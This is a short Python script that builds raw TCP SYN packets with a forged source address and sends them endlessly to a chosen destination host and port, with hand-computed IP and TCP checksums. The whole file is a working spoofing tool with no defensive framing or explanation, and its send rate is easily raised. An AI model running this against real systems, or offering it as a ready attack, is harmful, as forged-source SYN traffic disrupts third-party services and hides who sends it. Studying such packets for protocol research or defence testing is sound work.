"""Sends SYNs with the address of a station that is not there.

Usage: ``spoofer.py SOURCE DESTINATION PORT``.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

PAUSE = 0.35  # seconds


def main(source: str, destination: str, port: str) -> None:
    """Send until killed."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while True:
            own = random.randrange(32768, 61000)
            for _ in range(2):  # the second with another sequence number
                raw.sendto(_syn(source, own, destination, int(port)), (destination, 0))
                time.sleep(PAUSE)


def _syn(source: str, own: int, destination: str, port: int) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    sequence = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", own, port, sequence, 0, 5 << 4, 2, 64240, 0, 0)
    check = _sum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + ends + tcp


def _sum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


if __name__ == "__main__":
    main(*sys.argv[1:])
